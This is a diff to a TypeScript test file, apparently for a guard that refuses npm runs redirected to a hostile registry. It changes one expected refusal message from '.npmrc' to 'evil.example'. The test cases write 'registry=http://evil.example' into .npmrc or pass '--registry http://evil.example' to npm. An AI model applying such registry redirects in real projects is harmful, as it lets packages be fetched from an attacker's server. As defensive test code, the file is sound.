@@ -81,7 +81,7 @@ const CASES: readonly ServiceCase[] = [
     needs: "npm",
     before: "echo 'registry=http://evil.example' > .npmrc",
     script: NPM,
-    refused: ".npmrc",
+    refused: "evil.example",
   },
   { name: "npm sent elsewhere by its words", needs: "npm", script: `${NPM} --registry http://evil.example`, refused: "evil.example" },
   {
